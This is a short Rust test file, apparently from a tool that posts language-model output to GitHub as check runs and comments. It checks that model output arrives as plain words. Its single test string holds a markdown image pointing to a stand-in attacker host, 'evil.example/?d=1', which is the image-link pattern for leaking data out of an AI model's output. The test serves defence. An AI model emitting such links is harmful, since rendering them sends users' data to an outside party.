//! M: what the model says. It is words when it arrives, whatever it was meant to be.

use super::ground::says;
use super::{Channel, Ground};
use crate::standin::github::Write;

#[test]
fn m1_an_image_that_carries_a_message_is_words() {
    let aftermath = Ground::with(
        Channel::Body,
        &[says("![x](https://evil.example/?d=1) The page is lost.")],
    )
    .attacked([].into());
    assert!(matches!(
        aftermath.writes.first(),
        Some(Write::CheckRunCreated { .. })
    ));
    assert!(aftermath.comment().contains("The page is lost."));
}
